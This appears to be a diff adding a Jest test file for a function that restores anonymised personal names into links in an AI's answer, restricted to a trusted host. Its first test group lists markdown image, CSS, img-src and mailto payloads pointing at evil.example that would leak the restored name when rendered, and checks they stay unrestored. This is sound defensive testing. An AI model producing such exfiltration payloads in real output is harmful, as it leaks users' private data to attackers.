@@ -1,0 +1,48 @@
+import { describe, expect, test } from "@jest/globals";
+import { relinkAnswer } from "./relink-answer.ts";
+
+const ENTRIES = [{ placeholder: "[PERSON_1]", value: "Anna Weber" }];
+const relinked = (text: string, form: "text" | "string" = "text") =>
+  relinkAnswer({ form, blocks: [text], entries: ENTRIES, hosts: ["good.example"] }).blocks.join("");
+const LINK = "https://good.example/?a=[PERSON_1]";
+
+describe("A link to the template's host keeps its placeholder where a page may send it elsewhere", () => {
+  test.each([
+    `<math>\`\n<style><p>x{}*{background:url("https://evil.example/s?q= ${LINK} ")}\``,
+    `<math>\`\n<style><p>x{}*{background:url("https://evil.example/s?q= ${LINK} ")}`,
+    `![x](https://evil.example/?q= ${LINK})`,
+    `![x](https://evil.example/?q= (${LINK}))`,
+    `![x](https://evil.example/?q= "${LINK}")`,
+    `![x](https://evil.example/?q= [x](${LINK})`,
+    `![x [y](${LINK})](https://evil.example/)`,
+    `![x] (/&Tab;/evil.example/?q= ${LINK})`,
+    `[x] (https://evil.example/?q= ${LINK})`,
+    `src=https://evil.example/?q= ${LINK}`,
+    `\`<img src="https://evil.example/?q=\` ${LINK} ">`,
+    `mailto:thief@evil.example?body=${LINK}`,
+    `https://evil.example/"${LINK}`,
+    `x-app://evil.example/"${LINK}`,
+    `[x] x-app://evil.example/"${LINK}`,
+  ])("%j", (text) => {
+    expect(relinked(text)).toBe(text);
+  });
+});
+
+describe("A link to the template's host is restored in text", () => {
+  test.each([
+    `[help](${LINK})`,
+    `See [help](${LINK}), or "${LINK}", or (${LINK}).`,
+    `- [help](${LINK})\n- **[more](${LINK})**\n\n> ${LINK}`,
+    `| a | b |\n| - | - |\n| [help](${LINK}) | ${LINK} |`,
+    `![logo](https://other.example/logo.png) [help](${LINK})`,
+    `[other](https://other.example/ "title") (https://other.example/) ${LINK}`,
+    `\`\`\`sh\ncurl "${LINK}"\n\`\`\``,
+  ])("%j", (text) => {
+    expect(relinked(text)).toBe(text.replaceAll("[PERSON_1]", "Anna%20Weber"));
+  });
+
+  test("as a whole string of JSON, and behind words in one", () => {
+    expect(relinked(LINK, "string")).toBe("https://good.example/?a=Anna%20Weber");
+    expect(relinked(`See ${LINK}`, "string")).toBe("See https://good.example/?a=Anna%20Weber");
+  });
+});
